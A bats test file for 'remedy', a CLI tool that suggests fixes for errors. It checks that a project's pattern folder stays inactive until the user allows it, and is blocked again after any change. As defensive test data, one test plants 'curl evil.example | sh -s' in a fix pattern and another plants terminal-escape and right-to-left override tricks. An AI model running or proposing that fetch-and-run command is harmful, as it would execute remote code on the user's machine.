#!/usr/bin/env bats
# remedy allow and deny: a project's own patterns.

setup() {
	dir=$(mktemp -d "${BATS_TMPDIR:-/tmp}/trust.XXXXXX")
	export HOME=$dir/home LC_ALL=C.UTF-8 XDG_RUNTIME_DIR=$dir/run
	unset XDG_CONFIG_HOME XDG_CACHE_HOME XDG_STATE_HOME XDG_DATA_HOME LANGUAGE REMEDY_QUIET
	mkdir -p -m 700 "$HOME" "$XDG_RUNTIME_DIR"
	umask 022
	project=$HOME/shop
	mkdir -p "$project/.remedy" "$project/src/deep"
	cat >"$project/.remedy/team.yaml" <<'Y'
- id: shop-till
  exception: TillError
  match: ^no till (?<name>\w+)$
  summary: the till {name} is not set up
  fixes:
    - run: make till-{name}
    - edit: { before: till, after: tills, file: shop.py, line: 1 }
    - say: ask the team
  examples: [ { origin: real, stderr: "TillError: no till a" } ]
Y
	printf 'tillkit: shop-tillkit\n' >"$project/.remedy/modules.yaml"
	printf 'disable: [cffi-missing]\n' >"$project/.remedy/off.yaml"
	cd "$project/src/deep"
}

teardown() {
	rm -rf "$dir"
}

says() {
	remedy explain - <<<"TillError: no till a" || true
}

report() { # what the prompt shows after a failure that no pattern of the team's is for
	remedy report --shell bash --run 0 --status 127 --command "pythn4 a.py" 2>&1 || true
}

@test "silent until allowed; what could run is shown first" {
	[ -z "$(says)" ]
	run remedy allow </dev/null
	[ "$status" = 1 ]
	[[ $output == *"$project/.remedy holds this"* ]]
	[[ $output == *"shop-till  run  make till-{name}"* ]]
	[[ $output == *"shop-till  edit  shop.py: till → tills"* ]]
	[[ $output == *"tillkit  install  shop-tillkit"* ]]
	[[ $output == *"switches off  cffi-missing"* ]]
	[[ $output == *"remedy allow --yes"* ]]
	[ -z "$(says)" ]
	run remedy allow --yes
	[ "$status" = 0 ]
	[[ $(says) == *"the till a is not set up"*"make till-a"* ]]
	run remedy allow
	[ "$status" = 0 ]
	[[ $output == *"is allowed as it is"* ]]
	cd /
	[ -z "$(says)" ]
	run remedy deny "$project"
	[ "$status" = 0 ]
	cd "$project"
	[ -z "$(says)" ]
}

@test "a change blocks it, which the next failure's report says once" {
	remedy allow --yes
	sed -i 's/make till/curl evil.example | sh -s /' "$project/.remedy/team.yaml"
	[ -z "$(says)" ]
	run report
	output=${output//$'\n  '/ } # it is wrapped
	[[ $output == *"remedy: $project/.remedy changed since you allowed it and is not read; remedy allow shows what is new"* ]]
	run report
	[[ ${output//$'\n  '/ } != *"changed since"* ]]
	# another change is news again
	echo '# more' >>"$project/.remedy/team.yaml"
	run report
	[[ ${output//$'\n  '/ } == *"changed since"* ]]
	run remedy allow </dev/null
	[[ $output == *"has changed"* ]]
	[[ $output == *"+   shop-till  run  curl evil.example | sh -s -{name}"* ]]
	[[ $output == *"-   shop-till  run  make till-{name}"* ]]
	[[ $output == *$'\n'"  shop-till  the till {name} is not set up"* ]]
	remedy allow --yes
	run report
	[[ ${output//$'\n  '/ } != *"changed since"* ]]
}

@test "nothing above the home folder, nor of another's" {
	mkdir -p "$dir/.remedy" "$HOME/other"
	cp "$project/.remedy/team.yaml" "$dir/.remedy"
	cd "$HOME/other"
	run remedy allow --yes
	[ "$status" = 1 ]
	[[ $output == *"there is no .remedy in $HOME/other or above it"* ]]
	cd "$dir"
	run remedy allow --yes
	[ "$status" = 0 ]
	[ "$(id -u)" = 0 ] || skip "only root can give folders away"
	chown 12345 "$project/src"
	cd "$project/src"
	run remedy allow --yes
	[ "$status" = 1 ]
	chown 0 "$project/src"
	chown 12345 "$project/.remedy"
	run remedy allow --yes
	[ "$status" = 1 ]
	[[ $output == *"belongs to another user"* ]]
	[[ $output != *"there is no .remedy"* ]]
}

@test "what is there may be broken, or hostile" {
	printf -- '- id: [\n' >"$project/.remedy/broken.yaml"
	printf 'x\n' >"$project/.remedy/"$'a\nb.yaml'
	run remedy allow --yes
	[ "$status" = 1 ]
	[[ $output == *"cannot be read"* ]]
	rm "$project/.remedy/"$'a\nb.yaml'
	printf -- '- { id: evil, exception: TillError, summary: "a\\e[2Jb", fixes: [ { run: "rm \\u202e x" } ] }\n' >"$project/.remedy/evil.yaml"
	run remedy allow --yes
	[ "$status" = 0 ]
	[[ $output == *"broken.yaml:"* ]]
	[[ $output != *$'\e'* ]]
	[[ $output != *$'\u202e'* ]]
	run remedy allow one two
	[ "$status" = 2 ]
	run remedy allow /no/such/folder
	[ "$status" = 2 ]
	[[ $output == *"/no/such/folder: No such file"* ]]
}

@test "asked at a terminal: y allows, anything else does not, nor does Ctrl-C" {
	command -v python3 >/dev/null || skip "python3 is not installed"
	run env TERMINAL="$BATS_TEST_DIRNAME" python3 - <<'P'
import os, sys
sys.path.insert(0, os.environ["TERMINAL"])
from terminal import Terminal
t = Terminal()
for answer in ("n\n", "\n", "\x03", "\x04", "yesterday we said no\x15no\n"):
    t.type("remedy allow\n")
    t.wait(r"Let .*/shop/\.remedy\s+speak\?\s+\[y/N\] ")
    t.type(answer)
    t.wait("ready> $")
    if b"status 0" in t.run("echo status $?"):
        sys.exit("allowed by %r" % answer)
    if b"allowed" in t.run("remedy patterns path | grep -v 'not allowed'"):
        sys.exit("allowed by %r" % answer)
t.type("remedy allow\n")
t.wait(r"\[y/N\] ")
t.type("\x1a")                       # Ctrl-Z: a job like any other
t.wait("Stopped.*ready> $")
t.type("fg\n")
t.wait(r"remedy allow.*\[y/N\] ")     # shown again
t.type("y\n")
t.wait(r"is allowed\s+until\s+one\s+of\s+its\s+files\s+changes")
P
	echo "$output"
	[ "$status" = 0 ]
}
